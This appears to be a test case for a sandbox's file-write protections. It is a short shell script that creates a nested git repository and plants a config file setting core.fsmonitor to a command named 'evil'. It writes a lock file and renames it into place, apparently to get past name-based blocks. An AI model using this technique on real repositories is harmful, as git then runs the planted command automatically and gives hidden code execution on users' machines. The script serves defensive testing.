# attack: name a command in the configuration of a repository
# promise: planted
# walls: names
# success: file $PROJECT/n/.git/config has evil
# protect: strict
# allow: mkdir mkdirat
# allow: rename renameat renameat2
mkdir -p n/.git/objects n/.git/refs
printf '[core]\n\tfsmonitor = evil\n' > n/.git/config.lock
mv n/.git/config.lock n/.git/config
